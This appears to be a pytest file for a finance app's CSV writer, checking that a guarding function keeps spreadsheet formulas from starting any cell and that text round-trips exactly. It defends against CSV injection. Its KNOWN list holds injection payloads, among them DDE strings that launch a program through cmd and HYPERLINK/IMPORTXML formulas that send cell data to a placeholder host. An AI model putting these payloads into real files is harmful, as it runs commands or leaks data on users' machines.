"""What a spreadsheet would run never begins a cell, and comes back exactly."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chalicelib.interchange.model.formats import parse
from chalicelib.interchange.model.writers.csv import CsvWriter
from chalicelib.interchange.model.writers.types import Book, CategoryLine, Line, PartLine
from chalicelib.kernel.cells import guarded, unguarded
from tests.factories.books import AT, example, identity, written

CORPUS = Path(__file__).parents[4] / "../shared/data/security"
RUN = re.compile("(?:\\A|[;\t\r\n|])[=+\\-@\t\r＝＋－＠]")
KNOWN = (
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '=HYPERLINK("http://example.test?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.test?v=", CONCATENATE(A2:E2)), "//a")',
    "harmless;=1+1",
    "harmless\t@SUM(1)",
    "a|=1",
    "'=1+1",
    "''=1+1",
)
HARMLESS = ("", "a=b", "'Twas", 'O\'Neil; "x"', "2 - 1", "a,-5", "1'000", "'")


@pytest.mark.parametrize("text", KNOWN)
def test_a_formula_never_begins_a_cell(text: str) -> None:
    assert not RUN.search(guarded(text))
    assert unguarded(guarded(text)) == text.replace("\r", "\n")


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text
    assert unguarded(text) == text


@given(st.text("=+-@\t\r\n;|'＝a \""))
def test_any_text_is_safe_and_comes_back(text: str) -> None:
    assert not RUN.search(guarded(text))
    assert unguarded(guarded(text)) == text.replace("\r\n", "\n").replace("\r", "\n")


def formulas() -> list[str]:
    """Payloads of the corpora: what a line of theirs would run."""
    found = []
    for path in sorted(CORPUS.rglob("*")) if CORPUS.exists() else ():
        if path.is_file() and re.search("csv|formula|injection", path.name, re.IGNORECASE):
            found += path.read_text("utf-8", "replace").splitlines()
    return [line for line in found if line.strip()][:2_000]


def test_payloads_of_the_corpora_are_safe_in_every_text_of_a_csv_file() -> None:
    payloads = formulas()
    if not payloads:
        pytest.skip("../shared/data/security is not here, or has no formulas")
    for payload in payloads:
        assert not RUN.search(guarded(payload)), payload
        assert unguarded(guarded(payload)) == payload


@pytest.mark.parametrize("text", KNOWN)
def test_every_text_of_a_row_is_made_safe(text: str) -> None:
    book, _ = example()
    category = CategoryLine(id=identity(600), path=(text, text), kind="expense")
    account = book.accounts[0]
    book = Book(accounts=(account,), categories=(category,), made_at=AT)
    parts = (PartLine(identity(61), -5, category.id, text), PartLine(identity(62), -5, None, text))
    day = AT.date()
    lines = [
        Line(identity(1), account.id, day, -10, "EUR", text, text, category.id, (text,)),
        Line(
            identity(2), account.id, day, -10, "EUR", text, text, None, (), parts, bank_payee=text
        ),
    ]

    data = written(CsvWriter(), book, lines)

    rows = list(csv.reader(io.StringIO(data.decode(), newline="")))
    assert len(rows) == 4
    risky = [cell for row in rows[1:] for cell in row if RUN.search(cell)]
    assert risky == ["-0.10", "-0.05", "-0.05"]
    assert {row.payee for row in parse(data).rows} == {text.replace("\r", "\n")}
